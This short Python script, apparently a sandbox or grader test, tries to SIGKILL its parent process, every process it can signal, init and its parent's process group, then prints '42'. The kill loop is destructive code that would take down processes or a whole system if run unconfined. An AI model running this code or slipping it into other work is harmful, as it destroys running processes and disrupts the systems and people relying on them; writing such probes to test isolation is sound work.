# Tries to kill its parent, everything it can see (-1) and init, then answers.
import os
import signal

for target in (os.getppid(), -1, 1, -os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
print("42")
